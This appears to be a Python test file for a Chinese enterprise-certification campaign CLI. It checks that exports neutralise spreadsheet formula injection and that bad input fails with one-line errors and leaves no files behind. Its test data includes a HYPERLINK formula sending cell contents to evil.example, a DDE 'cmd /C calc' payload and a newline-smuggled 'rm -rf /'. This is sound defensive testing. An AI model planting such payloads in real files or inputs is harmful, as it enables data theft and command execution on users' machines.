"""Bad input, and nothing written (issue 12, items 9–14): user text stays text in exports, identifiers
have one form, refusals are recorded, a failed command leaves no file behind, every error is one line."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import CODE, DOC, Cli
from tests.helpers.lifecycle import ENROLL, walk_to_certification, walk_to_tracking

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _one_line(stderr: str) -> str:
    assert "Traceback" not in stderr
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("错误 Error: "), stderr
    return lines[0]


def _sql(cli: Cli, query: str) -> list[tuple[object, ...]]:
    from sqlalchemy import text

    from models.db import make_engine

    engine = make_engine(cli.db)
    try:
        with engine.begin() as conn:
            result = conn.execute(text(query))
            return [tuple(r) for r in result] if result.returns_rows else []
    finally:
        engine.dispose()


def _refusals(cli: Cli) -> list[tuple[object, ...]]:
    return _sql(cli, "SELECT actor, event FROM refusal ORDER BY id")


@pytest.fixture
def umask_zero() -> Iterator[None]:
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


# 9. Formula injection ---------------------------------------------------------------------------

def test_text_that_a_spreadsheet_would_evaluate_is_written_as_text_in_xlsx_and_csv(
        cli: Cli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from tests.conftest import bootstrap

    bootstrap(cli)
    cli("enterprise", "add", "--code", CODE, "--name", FORMULA, "--city", "许昌市", "--industry", "耐材",
        "--grade", "C", "--rating-doc", DOC, "--county", "+cmd|' /C calc'!A0", now="2024-05-06",
        actor="许昌联络员")
    cli(*ENROLL, now="2024-05-20", actor="许昌联络员")
    cli("export", "attachment1", "--city", "许昌市", "--out", str(tmp_path / "a1.xlsx"), now="2024-05-20")
    cli("export", "attachment1", "--city", "许昌市", "--out", str(tmp_path / "a1.csv"), now="2024-05-20")
    cli("advance", CODE, "withdraw", "--reason", "@SUM(1+1)*cmd", now="2024-05-21", actor="许昌联络员")
    cli("audit", "log", "--code", CODE, "--xlsx", str(tmp_path / "log.xlsx"), now="2024-05-22")

    ws = load_workbook(tmp_path / "a1.xlsx").active
    assert ws is not None
    row = next(r for r in ws.iter_rows(min_row=5) if r[2].value == CODE)
    seq, name, county = row[0], row[1], row[3]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert (county.value, county.data_type, county.quotePrefix) == ("+cmd|' /C calc'!A0", "s", True)
    assert (seq.value, seq.data_type) == (1, "n")  # numbers stay numbers
    log = load_workbook(tmp_path / "log.xlsx").active
    assert log is not None
    reasons = [c for r in log.iter_rows(min_row=5) for c in r if c.value == "@SUM(1+1)*cmd"]
    assert reasons and all(c.data_type == "s" and c.quotePrefix for c in reasons)
    assert not [c for r in log.iter_rows() for c in r if c.data_type == "f"]

    with (tmp_path / "a1.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    line = next(r for r in rows if r[2] == CODE)
    assert (line[0], line[1], line[3]) == ("1", "'" + FORMULA, "'+cmd|' /C calc'!A0")


# 10. One form for identifiers and vocabularies ----------------------------------------------------

def test_a_month_with_a_trailing_newline_or_full_width_digits_is_not_another_month(campaign: Cli) -> None:
    walk_to_tracking(campaign)
    campaign("advance", CODE, "record_evaluation", "--month", "2024-07", now="2024-07-20", actor="王专家")
    for month, shown in (("2024-07\n", "'2024-07\\n'"), ("２０２４-07", "'２０２４-07'")):
        r = campaign("advance", CODE, "record_evaluation", "--month", month, now="2024-07-28", actor="王专家",
                     expect=1)
        line = _one_line(r.stderr)
        assert "YYYY-MM" in line and shown in line
    assert _sql(campaign, "SELECT count(*) FROM evaluation") == [(1,)]


def test_an_industry_with_a_zero_width_space_is_refused_naming_the_character(campaign: Cli) -> None:
    from workflow.domain.creditcode import make

    r = campaign("enterprise", "add", "--code", make("91410100MA45C2R2M"), "--name", "许昌钢铁", "--city", "许昌市",
                 "--industry", "钢铁\u200b", "--grade", "A", "--rating-doc", DOC, now="2024-05-06",
                 actor="许昌联络员", expect=None)
    assert r.exit_code == 1
    line = _one_line(r.stderr)
    assert "U+200B" in line and "\u200b" not in line


# 11. Refusals are recorded ----------------------------------------------------------------------

def test_contact_add_by_an_unknown_actor_or_for_another_city_is_refused_and_recorded(campaign: Cli) -> None:
    _one_line(campaign("contact", "add", "--city", "许昌市", "--email", "dqk@xc.gov.cn", now="2024-05-07",
                       actor="无名氏", expect=1).stderr)
    _one_line(campaign("contact", "add", "--city", "郑州市", "--email", "dqk@zz.gov.cn", now="2024-05-07",
                       actor="许昌联络员", expect=1).stderr)
    assert [r for r in _refusals(campaign) if r[1] == "contact_add"] == [
        ("无名氏", "contact_add"), ("许昌联络员", "contact_add")]
    assert _sql(campaign, "SELECT count(*) FROM contact") == [(0,)]


# 12. Nothing written ----------------------------------------------------------------------------

def _fail_submissions(cli: Cli) -> None:
    """Make the database refuse the submission row, after the file has been copied."""
    if cli.db.startswith("postgresql"):
        _sql(cli, "CREATE FUNCTION no_room() RETURNS trigger LANGUAGE plpgsql AS "
                  "$$ BEGIN RAISE EXCEPTION 'disk quota exceeded'; END $$")
        _sql(cli, "CREATE TRIGGER no_room BEFORE INSERT ON deliverable_submission "
                  "FOR EACH ROW EXECUTE FUNCTION no_room()")
    else:
        _sql(cli, "CREATE TRIGGER no_room BEFORE INSERT ON deliverable_submission "
                  "BEGIN SELECT RAISE(ABORT, 'disk quota exceeded'); END")


def test_a_failed_submission_leaves_no_file_in_the_document_store(campaign: Cli) -> None:
    (campaign.home / "附件1.xlsx").write_bytes(b"first version")
    r = json.loads(campaign("deliverable", "submit", "--city", "许昌市", "--kind", "attachment1", "--file",
                            "附件1.xlsx", "--json", now="2024-05-30", actor="许昌联络员").stdout)
    kept = campaign.home / r["stored_path"]
    _fail_submissions(campaign)
    (campaign.home / "附件2.xlsx").write_bytes(b"another file")
    _one_line(campaign("deliverable", "submit", "--city", "许昌市", "--kind", "attachment2", "--file",
                       "附件2.xlsx", now="2024-05-30", actor="许昌联络员", expect=1).stderr)
    _one_line(campaign("deliverable", "submit", "--city", "许昌市", "--kind", "attachment1", "--file",
                       "附件1.xlsx", now="2024-05-31", actor="许昌联络员", expect=1).stderr)
    files = sorted(p.relative_to(campaign.home).as_posix() for p in (campaign.home / "documents").rglob("*"))
    assert files == ["documents/2024", "documents/2024/许昌市", r["stored_path"]]  # the earlier one stays
    assert kept.read_bytes() == b"first version"
    assert _sql(campaign, "SELECT count(*) FROM deliverable_submission") == [(1,)]


def test_looking_at_an_empty_file_or_a_mistyped_path_creates_no_database(tmp_path: Path) -> None:
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    r = Cli(str(empty), tmp_path)("status", expect=1)
    assert "campaign init" in _one_line(r.stderr)
    assert empty.stat().st_size == 0 and not list(tmp_path.glob("empty.db-*"))
    r = Cli(str(tmp_path / "typo.db"), tmp_path)("calendar", "show", expect=1)
    assert "不存在" in _one_line(r.stderr)
    assert not list(tmp_path.glob("typo.db*"))


def test_an_unsupported_database_url_is_one_line(tmp_path: Path) -> None:
    r = Cli("mysql://campaign@127.0.0.1/campaign", tmp_path)("status", expect=1)
    assert "不支持的数据库" in _one_line(r.stderr) and "仅支持 SQLite 与 PostgreSQL" in r.stderr


# 13. Wrong results ------------------------------------------------------------------------------

def test_the_year_end_catch_up_tick_sends_no_ready_to_certify_for_what_it_closed(campaign: Cli) -> None:
    walk_to_certification(campaign)
    campaign("advance", CODE, "publicize", now="2024-12-02", actor="许昌联络员")  # ends before 12-31
    out = json.loads(campaign("scheduler", "tick", "--json", "--no-deliver", now="2025-01-01").stdout)
    assert out["closed"] == 1
    assert not [n for n in out["notices"] if n["kind"] == "ready_to_certify"]


def test_enterprise_list_refuses_an_unknown_state_and_a_limit_below_one(campaign: Cli) -> None:
    line = _one_line(campaign("enterprise", "list", "--state", "cultivaton", now="2024-05-07", expect=1).stderr)
    assert "cultivaton" in line and "cultivation" in line and "certified" in line
    for limit in ("-1", "0"):
        assert "--limit" in _one_line(campaign("enterprise", "list", "--limit", limit, now="2024-05-07",
                                               expect=1).stderr)
    campaign(*ENROLL, now="2024-05-20", actor="许昌联络员")
    for state in ("cultivation", "培育"):
        found = json.loads(campaign("enterprise", "list", "--state", state, "--json", now="2024-05-20").stdout)
        assert [r["code"] for r in found] == [CODE]


# 14. One line, the right exit code ------------------------------------------------------------

def test_usage_errors_are_one_line_with_exit_2(campaign: Cli) -> None:
    for args in (("enterprise", "list", "--bogus"), ("request", "answer", "1"), ("--bogus", "status"),
                 ("export", "attachment1", "--city", "许昌市")):
        r = campaign(*args, now="2024-05-07", actor="许昌联络员", expect=2)
        assert "Usage:" not in r.stderr and "--help" in _one_line(r.stderr)


def test_input_with_a_newline_is_quoted_on_the_one_error_line(campaign: Cli) -> None:
    line = _one_line(campaign("enterprise", "list", "--state", "tracking\nrm -rf /", now="2024-05-07",
                              expect=1).stderr)
    assert "tracking\\nrm -rf /" in line


def test_a_directory_or_a_wrong_suffix_given_as_a_file_is_invalid_input(campaign: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    for args in (("export", "attachment1", "--city", "许昌市", "--out", str(folder)),
                 ("export", "attachment1", "--city", "许昌市", "--out", str(tmp_path / "a.txt")),
                 ("report", "targets", "--xlsx", str(tmp_path / "t.csv")),
                 ("report", "targets", "--xlsx", str(folder)),
                 ("audit", "log", "--xlsx", str(folder)),
                 ("deliverable", "submit", "--city", "许昌市", "--kind", "attachment1", "--file", str(folder)),
                 ("enterprise", "import", str(folder))):
        r = campaign(*args, now="2024-05-07", actor="许昌联络员", expect=1)
        _one_line(r.stderr)
    assert list(folder.iterdir()) == []


def test_a_huge_request_id_is_an_unknown_request(campaign: Cli) -> None:
    r = campaign("request", "answer", "99999999999999999999", "--text", "已答复", now="2024-05-07",
                 actor="许昌联络员", expect=1)
    assert "不存在" in _one_line(r.stderr) and "内部错误" not in r.stderr
    assert ("许昌联络员", "answer_request") in _refusals(campaign)


def test_import_errors_start_with_a_summary_line(campaign: Cli) -> None:
    from tests.helpers.spreadsheets import HEAD_ZH, write_csv
    from workflow.domain.creditcode import make

    f = write_csv(campaign.home / "bad.csv", HEAD_ZH,
                  [["91410100MA45C2R1X0", "坏代码企业", "许昌市", "", "耐材", "C", "", DOC],
                   [make("91410100MA45C2R2M"), "未知行业企业", "许昌市", "", "炼丹", "C", "", DOC]])
    lines = campaign("enterprise", "import", str(f), now="2024-05-07", actor="许昌联络员",
                     expect=1).stderr.strip().splitlines()
    assert lines[0].startswith("错误 Error: 2 行有误") and "逐行" in lines[0]
    assert [x[:5] for x in lines[1:]] == ["第 2 行", "第 3 行"]


def test_exports_and_stored_documents_are_private_to_their_owner_whatever_the_umask(
        campaign: Cli, tmp_path: Path, umask_zero: None) -> None:
    (campaign.home / "附件1.xlsx").write_bytes(b"list")
    r = json.loads(campaign("deliverable", "submit", "--city", "许昌市", "--kind", "attachment1", "--file",
                            "附件1.xlsx", "--json", now="2024-05-30", actor="许昌联络员").stdout)
    assert (campaign.home / r["stored_path"]).stat().st_mode & 0o777 == 0o600
    for out in ("a1.xlsx", "a1.csv"):
        campaign("export", "attachment1", "--city", "许昌市", "--out", str(tmp_path / out), now="2024-05-07")
        assert (tmp_path / out).stat().st_mode & 0o777 == 0o600
    campaign("report", "targets", "--xlsx", str(tmp_path / "t.xlsx"), now="2024-05-07")
    assert (tmp_path / "t.xlsx").stat().st_mode & 0o777 == 0o600
